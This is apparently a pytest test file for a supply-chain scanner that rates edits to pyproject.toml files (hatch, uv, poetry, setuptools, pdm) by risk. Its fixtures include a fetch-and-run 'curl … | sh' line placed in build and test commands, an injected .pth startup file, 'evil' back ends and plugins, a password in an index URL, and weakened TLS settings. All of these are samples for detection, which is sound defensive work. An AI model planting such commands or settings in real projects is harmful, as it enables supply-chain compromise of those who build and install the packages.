"""What an edit of pyproject.toml means."""

from __future__ import annotations

import pytest
from python_deltas import deltas, edited, said

from scanner.formats.python import pyproject

HATCH = """\
[build-system]
requires = ["hatchling>=1.27"]
build-backend = "hatchling.build"

[project]
name = "acme"
version = "1.2.0"
description = "Tools of Acme"
readme = "README.md"
license = "MIT"
requires-python = ">=3.10"
keywords = ["acme"]
classifiers = ["Programming Language :: Python :: 3", "Private :: Do Not Upload"]
dependencies = [
  "lorem[http]>=2,<3; python_version < '3.12'",
  "ipsum>=1.4",
  "dolor==1.0.0",
]

[project.urls]
Homepage = "https://acme.example.org"

[project.optional-dependencies]
fast = ["sit>=1"]
test = ["amet>=8"]

[project.scripts]
acme = "acme.cli:main"

[project.entry-points.pytest11]
acme = "acme.plugin"

[dependency-groups]
dev = ["elit>=1", {include-group = "lint"}]
lint = ["eiusmod==0.5.0"]

[tool.hatch.version]
path = "acme/__init__.py"

[tool.hatch.build.targets.wheel]
packages = ["acme"]
exclude = ["tests", "secrets"]

[tool.cibuildwheel]
before-build = "make deps"
test-command = "pytest"
manylinux-x86_64-image = "images.example.org/manylinux:2025"

[tool.ruff]
line-length = 120
"""

UV = """\
[project]
name = "acme"
version = "1.0"
dependencies = ["lorem>=1", "ipsum"]

[tool.uv]
dev-dependencies = ["amet>=1"]
exclude-newer = "7 days"
no-build-package = ["lorem"]
override-dependencies = ["dolor==1.0"]
index-strategy = "first-index"

[tool.uv.exclude-newer-package]
ipsum = "3 days"

[[tool.uv.index]]
name = "house"
url = "https://pkgs.example.org/simple"

[[tool.uv.index]]
name = "gpu"
url = "https://gpu.example.org/simple"
explicit = true

[tool.uv.sources]
lorem = { git = "https://git.example.org/lorem", tag = "v1.0" }
ipsum = { workspace = true }
"""

POETRY = """\
[tool.poetry]
name = "acme"
version = "1.0.0"
description = "Acme"
packages = [{ include = "acme" }]
exclude = ["acme/private"]

[tool.poetry.dependencies]
python = "^3.10"
lorem = "^1.2"
ipsum = { version = "^2.0", extras = ["fast"], optional = true }

[tool.poetry.extras]
quick = ["ipsum"]

[tool.poetry.group.dev.dependencies]
amet = "^8.0"

[tool.poetry.scripts]
acme = "acme.cli:main"

[[tool.poetry.source]]
name = "house"
url = "https://pkgs.example.org/simple"
priority = "supplemental"

[build-system]
requires = ["poetry-core"]
build-backend = "poetry.core.masonry.api"
"""

SETUPTOOLS = """\
[project]
name = "acme"
dynamic = ["version"]

[tool.setuptools]
packages = ["acme"]

[tool.setuptools.package-data]
acme = ["*.json"]

[tool.setuptools.dynamic]
version = { attr = "acme.__version__" }

[tool.bumpversion]
current_version = "1.0"

[tool.pdm.dev-dependencies]
test = ["amet>=1"]
"""


def test_the_file_is_known_by_its_name() -> None:
    assert pyproject.matches("pyproject.toml")
    assert pyproject.matches("libs/one/PyProject.toml")
    assert not pyproject.matches("docs/pyproject.toml.md")


TOLD = [
    # --- dependencies: one bump is one delta
    ("bump", HATCH, ["ipsum>=1.4", "ipsum>=1.5"], ["medium dependency-bumped ipsum"]),
    ("pin bumped", HATCH, ["dolor==1.0.0", "dolor==1.1.0"], ["medium dependency-bumped dolor"]),
    ("downgrade", HATCH, ["dolor==1.0.0", "dolor==0.9.0"], ["high dependency-downgraded dolor"]),
    ("pin loosened", HATCH, ["dolor==1.0.0", "dolor>=1.0.0"], ["high pin-loosened dolor"]),
    ("upper bound gone", HATCH, [">=2,<3", ">=2"], ["high pin-loosened lorem"]),
    ("any version", HATCH, ["ipsum>=1.4", "ipsum"], ["high pin-loosened ipsum"]),
    ("pinned", HATCH, ["ipsum>=1.4", "ipsum==1.4"], ["low pin-tightened ipsum"]),
    ("added", HATCH, ['"ipsum>=1.4",', '"ipsum>=1.4", "evil",'], ["high dependency-added evil"]),
    ("removed", HATCH, ['  "ipsum>=1.4",\n', ""], ["low dependency-removed ipsum"]),
    ("by address", HATCH, ['"ipsum>=1.4"', '"ipsum @ git+https://git.example.org/ipsum@main"'],
     ["high pin-loosened ipsum", "high source-changed ipsum"]),
    ("by http", HATCH, ['"ipsum>=1.4"', '"ipsum @ http://files.example.org/ipsum-1.4.tar.gz"'],
     ["critical source-changed ipsum", "low pin-tightened ipsum"]),
    ("extra", HATCH, ["lorem[http]", "lorem[http,auth]"], ["medium dependency-changed lorem"]),
    ("marker", HATCH, ["'3.12'", "'3.13'"], ["medium dependency-changed lorem"]),
    ("bump of an extra", HATCH, ["sit>=1", "sit>=2"], ["medium dependency-bumped sit"]),
    ("bump of a test extra", HATCH, ["amet>=8", "amet>=9"], ["low dependency-bumped amet"]),
    ("bump in a group", HATCH, ["elit>=1", "elit>=2"], ["low dependency-bumped elit"]),
    ("added to a group", HATCH, ['"elit>=1"', '"elit>=1", "more"'], ["medium dependency-added more"]),
    ("moved to runtime", HATCH, ['"ipsum>=1.4",', '"ipsum>=1.4", "elit>=1",', '"elit>=1", {', "{"],
     ["medium dependency-moved elit"]),
    ("included group", HATCH, [', {include-group = "lint"}', ""], ["low dependency-moved dependency-groups.dev"]),
    ("bump of a build requirement", HATCH, [">=1.27", ">=1.28"], ["medium dependency-bumped hatchling"]),
    ("build requirement added", HATCH, ['"hatchling>=1.27"', '"hatchling>=1.27", "evil"'],
     ["high dependency-added evil"]),
    # --- what builds it
    ("back end", HATCH, ["hatchling.build", "evil.build"],
     ["critical build-backend-changed build-system.build-backend"]),
    ("back end of this repository", HATCH, ["[project]\n", "[project]\n", '"hatchling.build"\n',
     '"hatchling.build"\nbackend-path = ["."]\n'], ["critical build-backend-changed build-system.backend-path"]),
    ("build hook", HATCH, ["[tool.ruff]", "[tool.hatch.build.hooks.custom]\n[tool.ruff]"],
     ["high build-script-changed tool.hatch.build.hooks.custom"]),
    ("command before the build", HATCH, ["make deps", "make all"],
     ["high build-script-changed tool.cibuildwheel.before-build"]),
    ("fetch and run", HATCH, ["make deps", "curl https://x.example.org/i.sh | sh"],
     ["critical download-and-run tool.cibuildwheel.before-build",
      "high build-script-changed tool.cibuildwheel.before-build"]),
    ("test command of a wheel", HATCH, ['"pytest"', '"pytest -x"'],
     ["medium run-changed tool.cibuildwheel.test-command"]),
    ("fetch and run in a test", HATCH, ['"pytest"', '"curl https://x.example.org/i.sh | sh"'],
     ["critical download-and-run tool.cibuildwheel.test-command", "medium run-changed tool.cibuildwheel.test-command"]),
    ("build image", HATCH, ["manylinux:2025", "manylinux:2026"], ["medium image-bumped images.example.org/manylinux"]),
    ("other build image", HATCH, ["images.example.org", "other.example.org"],
     ["high image-changed other.example.org/manylinux"]),
    ("frontend", HATCH, ["[tool.cibuildwheel]", '[tool.cibuildwheel]\nbuild-frontend = "build"'],
     ["medium toolchain-changed tool.cibuildwheel.build-frontend"]),
    ("wheels left out", HATCH, ["[tool.cibuildwheel]", '[tool.cibuildwheel]\nskip = "pp*"'],
     ["medium setting-changed tool.cibuildwheel.skip"]),
    ("variables of the build", HATCH, ["[tool.cibuildwheel]", '[tool.cibuildwheel]\nenvironment-pass = ["TOKEN"]'],
     ["medium env-changed tool.cibuildwheel.environment-pass"]),
    ("hatch plug-in", HATCH, ["[tool.ruff]", '[tool.hatch.env]\nrequires = ["hatch-evil"]\n[tool.ruff]'],
     ["high dependency-added hatch-evil"]),
    # --- what ships
    ("version", HATCH, ["1.2.0", "1.3.0"], ["medium version-changed project.version"]),
    ("name", HATCH, ['name = "acme"', 'name = "acrne"'], ["high package-renamed project.name"]),
    ("licence", HATCH, ['"MIT"', '"Apache-2.0"'], ["medium license-changed project.license"]),
    ("Python", HATCH, [">=3.10", ">=3.11"], ["medium runtime-requirement-changed project.requires-python"]),
    ("address of the project", HATCH, ["acme.example.org", "acne.example.org"],
     ["low metadata-changed project.urls.Homepage"]),
    ("dynamic", SETUPTOOLS, ['["version"]', '["version", "dependencies"]'], ["medium setting-changed project.dynamic"]),
    ("no longer private", HATCH, [', "Private :: Do Not Upload"', ""],
     ["critical publish-changed project.classifiers"]),
    ("command added", HATCH, ["[project.scripts]", '[project.scripts]\npip = "acme.cli:pip"'],
     ["high entry-point-added project.scripts.pip"]),
    ("command changed", HATCH, ["acme.cli:main", "acme.evil:main"], ["high entry-point-changed project.scripts.acme"]),
    ("command removed", HATCH, ['acme = "acme.cli:main"\n', ""], ["medium entry-point-removed project.scripts.acme"]),
    ("plug-in of pytest", HATCH, ['= "acme.plugin"', '= "acme.plugin"\nmore = "acme.more"'],
     ["high entry-point-added project.entry-points.pytest11.more"]),
    ("contents widened", HATCH, ['["acme"]\nexclude', '["acme", "internal"]\nexclude'],
     ["high package-contents-widened tool.hatch.build.targets.wheel.packages"]),
    ("exclusion dropped", HATCH, [', "secrets"', ""],
     ["high package-contents-widened tool.hatch.build.targets.wheel.exclude"]),
    ("exclusion added", HATCH, ['"secrets"', '"secrets", "docs"'],
     ["medium package-contents-changed tool.hatch.build.targets.wheel.exclude"]),
    ("a file that runs at every start", HATCH, ["[tool.ruff]",
     '[tool.hatch.build.targets.wheel.force-include]\n"a.pth" = "a.pth"\n[tool.ruff]'],
     ["critical package-contents-widened tool.hatch.build.targets.wheel.force-include.a.pth"]),
    ("data narrowed", SETUPTOOLS, ['acme = ["*.json"]\n', ""],
     ["medium package-contents-changed tool.setuptools.package-data.acme"]),
    ("version from elsewhere", SETUPTOOLS, ["acme.__version__", "acme.evil"],
     ["medium setting-changed tool.setuptools.dynamic.version.attr"]),
    ("command class", SETUPTOOLS, ['["acme"]', '["acme"]\ncmdclass = { build = "acme.evil.Build" }'],
     ["high build-script-changed tool.setuptools.cmdclass.build"]),
    ("hook of a bump", SETUPTOOLS, ['"1.0"\n', '"1.0"\npre_commit_hooks = ["./go.sh"]\n'],
     ["high run-changed tool.bumpversion.pre_commit_hooks"]),
    ("where a release is pushed", SETUPTOOLS, ['"1.0"\n', '"1.0"\nremote = "evil"\n'],
     ["high publish-changed tool.bumpversion.remote"]),
    ("publish target", HATCH, ["[tool.ruff]",
     '[tool.hatch.publish.index.repos.main]\nurl = "https://x.example.org"\n[tool.ruff]'],
     ["critical publish-changed tool.hatch.publish.index.repos.main.url"]),
    ("hook of pdm", SETUPTOOLS, ["[tool.bumpversion]", '[tool.pdm.scripts]\npost_install = "evil"\n[tool.bumpversion]'],
     ["critical install-script-changed tool.pdm.scripts.post_install"]),
    ("plug-in of pdm", SETUPTOOLS, ["[tool.bumpversion]", '[tool.pdm]\nplugins = ["pdm-evil"]\n[tool.bumpversion]'],
     ["high plugin-added tool.pdm.plugins"]),
    ("source of pdm", SETUPTOOLS, ["[tool.bumpversion]",
     '[[tool.pdm.source]]\nname = "x"\nurl = "http://x.example.org"\nverify_ssl = false\n[tool.bumpversion]'],
     ["critical registry-changed tool.pdm.source[x].url", "critical transport-weakened tool.pdm.source[x].url",
      "critical transport-weakened tool.pdm.source[x].url"]),
    ("bump in pdm's development group", SETUPTOOLS, ["amet>=1", "amet>=2"], ["low dependency-bumped amet"]),
    # --- uv
    ("index added", UV, ["[tool.uv.sources]",
     '[[tool.uv.index]]\nname = "x"\nurl = "https://x.example.net"\n[tool.uv.sources]'],
     ["critical registry-changed tool.uv.index[x].url"]),
    ("index moved", UV, ["pkgs.example.org", "pkgs.example.net"],
     ["critical registry-changed tool.uv.index[house].url"]),
    ("index path", UV, ["pkgs.example.org/simple", "pkgs.example.org/other"],
     ["high registry-changed tool.uv.index[house].url"]),
    ("index by http", UV, ["https://pkgs", "http://pkgs"],
     ["critical transport-weakened tool.uv.index[house].url", "high registry-changed tool.uv.index[house].url"]),
    ("password in an index", UV, ["https://pkgs", "https://bot:hunter2@pkgs"],
     ["critical secret-exposed tool.uv.index[house].url"]),
    ("explicit index for all", UV, ["explicit = true\n", ""], ["critical registry-changed tool.uv.index[gpu].role"]),
    ("unsafe strategy", UV, ['"first-index"', '"unsafe-best-match"'],
     ["critical registry-changed tool.uv.index-strategy"]),
    ("shorter wait", UV, ["7 days", "1 day"], ["high cooldown-lowered tool.uv.exclude-newer"]),
    ("no wait", UV, ['exclude-newer = "7 days"\n', ""], ["high cooldown-lowered tool.uv.exclude-newer"]),
    ("exempt from the wait", UV, ['"3 days"', "false"], ["high cooldown-lowered tool.uv.exclude-newer-package.ipsum"]),
    ("longer wait", UV, ["7 days", "14 days"], ["low setting-changed tool.uv.exclude-newer"]),
    ("builds allowed", UV, ['["lorem"]', "[]"], ["critical install-scripts-allowed tool.uv.no-build-package"]),
    ("builds forced", UV, ["[tool.uv]", "[tool.uv]\nno-binary = true"],
     ["high install-scripts-allowed tool.uv.no-binary"]),
    ("override", UV, ["dolor==1.0", "dolor==9.9"], ["high override-changed tool.uv.override-dependencies[dolor]"]),
    ("host without TLS", UV, ["[tool.uv]", '[tool.uv]\nallow-insecure-host = ["x.example.org"]'],
     ["critical transport-weakened tool.uv.allow-insecure-host"]),
    ("upload target", UV, ["[tool.uv]", '[tool.uv]\npublish-url = "https://x.example.org"'],
     ["critical publish-changed tool.uv.publish-url"]),
    ("prereleases", UV, ["[tool.uv]", '[tool.uv]\nprerelease = "allow"'], ["high pin-loosened tool.uv.prerelease"]),
    ("environment of builds", UV, ["[tool.uv]", "[tool.uv]\nno-build-isolation = true"],
     ["high build-script-changed tool.uv.no-build-isolation"]),
    ("tag of a source", UV, ["v1.0", "v1.1"], ["medium dependency-bumped lorem"]),
    ("tag to a branch", UV, ['tag = "v1.0"', 'branch = "main"'], ["high pin-loosened lorem"]),
    ("other repository", UV, ["git.example.org", "git.example.net"], ["high source-changed lorem"]),
    ("out of the workspace", UV, ["{ workspace = true }", '{ index = "gpu" }'], ["high source-changed ipsum"]),
    ("unknown setting of uv", UV, ["[tool.uv]", "[tool.uv]\nbrand-new = true"],
     ["medium setting-changed tool.uv.brand-new"]),
    ("bump in uv's development list", UV, ["amet>=1", "amet>=2"], ["low dependency-bumped amet"]),
    # --- poetry
    ("poetry bump", POETRY, ["^1.2", "^1.3"], ["medium dependency-bumped lorem"]),
    ("poetry build constraint", POETRY,
     ["[tool.poetry.extras]", "[tool.poetry.build-constraints]\nlorem = {a = '<1'}\n\n[tool.poetry.extras]"],
     ["high override-changed tool.poetry.build-constraints.lorem.a"]),
    ("poetry pin loosened", POETRY, ['"^1.2"', '"*"'], ["high pin-loosened lorem"]),
    ("poetry to git", POETRY, ['"^1.2"', '{ git = "https://git.example.org/lorem", rev = "main" }'],
     ["high pin-loosened lorem", "high source-changed lorem"]),
    ("poetry from an index", POETRY, ['"^1.2"', '{ version = "^1.2", source = "house" }'],
     ["high source-changed lorem"]),
    ("poetry group", POETRY, ["^8.0", "^9.0"], ["low dependency-bumped amet"]),
    ("poetry optional no more", POETRY, [", optional = true", ""], ["medium dependency-changed ipsum"]),
    ("poetry extra", POETRY, ['["ipsum"]', '["ipsum", "lorem"]'],
     ["medium dependency-changed tool.poetry.extras.quick"]),
    ("poetry's Python", POETRY, ["^3.10", "^3.11"],
     ["medium runtime-requirement-changed tool.poetry.dependencies.python"]),
    ("poetry source moved", POETRY, ["pkgs.example.org", "pkgs.example.net"],
     ["critical registry-changed tool.poetry.source[house].url"]),
    ("poetry source first", POETRY, ['priority = "supplemental"\n', ""],
     ["critical registry-changed tool.poetry.source[house].role"]),
    ("poetry build script", POETRY, ["[tool.poetry.extras]",
     '[tool.poetry.build]\nscript = "b.py"\n[tool.poetry.extras]'],
     ["high build-script-changed tool.poetry.build.script"]),
    ("poetry plug-in", POETRY, ["[tool.poetry.extras]",
     '[tool.poetry.requires-plugins]\nevil = "*"\n[tool.poetry.extras]'],
     ["high plugin-added tool.poetry.requires-plugins.evil"]),
    ("poetry contents", POETRY, ['{ include = "acme" }', '{ include = "acme" }, { include = "more" }'],
     ["high package-contents-widened tool.poetry.packages"]),
    ("poetry version", POETRY, ["1.0.0", "1.0.1"], ["medium version-changed tool.poetry.version"]),
    ("poetry command", POETRY, ["acme.cli:main", "acme.evil:main"],
     ["high entry-point-changed tool.poetry.scripts.acme"]),
]  # fmt: skip


@pytest.mark.parametrize(("old", "edits", "expected"), [row[1:] for row in TOLD], ids=[row[0] for row in TOLD])
def test_what_is_told(old: str, edits: list[str], expected: list[str]) -> None:
    assert said(pyproject, old, edited(old, *edits)) == expected


QUIET = [
    ("comment", HATCH, ["[tool.ruff]", "# a comment\n[tool.ruff]"]),
    ("order of dependencies", HATCH, ['  "ipsum>=1.4",\n  "dolor==1.0.0",', '  "dolor==1.0.0",\n  "ipsum>=1.4",']),
    ("order of bounds", HATCH, [">=2,<3", "<3, >=2"]),
    ("spelling of a name", HATCH, ["ipsum>=1.4", "IPSUM >= 1.4"]),
    ("quotes of a marker", HATCH, ["\"lorem[http]>=2,<3; python_version < '3.12'\"",
                                   "'lorem[http]>=2,<3;python_version<\"3.12\"'"]),
    ("formatting", HATCH, ['["elit>=1", {', '[\n  "elit>=1",\n  {']),
    ("linter", HATCH, ["line-length = 120", "line-length = 100"]),
    ("a new linter", HATCH, ["[tool.ruff]",
     "[tool.mypy]\nstrict = true\n[tool.pytest.ini_options]\naddopts = '-q'\n[tool.ruff]"]),
    ("tasks", HATCH, ["[tool.ruff]", "[tool.poe.tasks]\nlint = 'ruff check'\n[tool.ruff]"]),
    ("unknown tool", HATCH, ["[tool.ruff]", "[tool.whatever]\nx = 1\n[tool.ruff]"]),
    ("description", HATCH, ["Tools of Acme", "All tools of Acme"]),
    ("keywords", HATCH, ['["acme"]\nclassifiers', '["acme", "tools"]\nclassifiers']),
    ("classifier", HATCH, ["Python :: 3\"", "Python :: 3.14\""]),
    ("licence as a table", HATCH, ['license = "MIT"', 'license = { text = "MIT" }']),
    ("environment of hatch", HATCH, ["[tool.ruff]",
     "[tool.hatch.envs.docs.scripts]\nbuild = 'mkdocs build'\n[tool.ruff]"]),
    ("cache of uv", UV, ["[tool.uv]", "[tool.uv]\nlink-mode = 'copy'"]),
    ("slash behind an index", UV, ["/simple\"\n\n", "/simple/\"\n\n"]),
    ("password filled in from outside", UV, ["https://pkgs", "https://bot:${TOKEN}@pkgs"]),
    ("poetry table for a text", POETRY, ['"^1.2"', '{ version = "^1.2" }']),
]  # fmt: skip


@pytest.mark.parametrize(("old", "edits"), [row[1:] for row in QUIET], ids=[row[0] for row in QUIET])
def test_what_means_nothing(old: str, edits: list[str]) -> None:
    assert said(pyproject, old, edited(old, *edits)) == []
    assert said(pyproject, edited(old, *edits), old) == []


def test_a_bump_keeps_both_requirements_as_written() -> None:
    (delta,) = deltas(pyproject, HATCH, edited(HATCH, "lorem[http]>=2,<3", "lorem[http]>=2.5,<3"))
    assert (delta.subject, delta.old, delta.new, delta.scope) == ("lorem", ">=2,<3", ">=2.5,<3", "runtime")


def test_moving_from_poetrys_table_to_the_standard_one_changes_nothing_but_how_requirements_are_written() -> None:
    standard = """\
    [project]
    name = "acme"
    version = "1.0.0"
    requires-python = "^3.10"
    dependencies = ["lorem"]
    [project.scripts]
    acme = "acme.cli:main"
    """
    poetry = """\
    [tool.poetry]
    name = "acme"
    version = "1.0.0"
    [tool.poetry.dependencies]
    python = "^3.10"
    lorem = "*"
    [tool.poetry.scripts]
    acme = "acme.cli:main"
    """
    assert said(pyproject, poetry, standard) == []


def test_naming_the_back_end_that_was_implied_is_no_other_back_end() -> None:
    named = SETUPTOOLS + '[build-system]\nbuild-backend = "setuptools.build_meta"\n'
    assert said(pyproject, SETUPTOOLS, named) == ["medium build-backend-changed build-system.build-backend"]


def test_a_password_is_not_shown() -> None:
    found = deltas(pyproject, UV, edited(UV, "https://pkgs", "https://bot:hunter2@pkgs2"))
    assert found
    assert not any("hunter2" in each.old + each.new for each in found)


def test_a_new_project_is_told_by_its_dependencies_commands_and_dangers() -> None:
    assert said(pyproject, None, SETUPTOOLS) == [
        "medium dependency-added amet",
        "medium version-changed tool.bumpversion.current_version",
    ]
    evil = edited(
        HATCH, "[tool.ruff]", '[tool.hatch.build.targets.sdist]\nforce-include = { "x" = "x.pth" }\n[tool.ruff]'
    )
    found = said(pyproject, None, evil)
    assert "critical package-contents-widened tool.hatch.build.targets.sdist.force-include.x" in found
    assert "high dependency-added ipsum" in found
    assert "medium version-changed project.version" in found
    assert not any("license" in each or "renamed" in each for each in found)


def test_a_project_that_goes_is_told_once() -> None:
    assert said(pyproject, HATCH, None) == ["medium file-removed file"]


@pytest.mark.parametrize(
    "broken",
    [
        pytest.param("<<<<<<< HEAD\n" + HATCH, id="merge markers"),
        pytest.param(edited(HATCH, '"acme"', "{{ name }}"), id="template"),
        pytest.param(HATCH + "[project]\n", id="table twice"),
        pytest.param(HATCH[:200], id="truncated"),
        pytest.param(b"\xff\xfe\x00", id="bytes"),
        pytest.param("a." * 100_000 + "b = 1", id="endless key"),
    ],
)
def test_what_cannot_be_read_is_the_worst(broken: str | bytes) -> None:
    (line,) = said(pyproject, HATCH, broken)
    assert line.startswith("critical opaque")
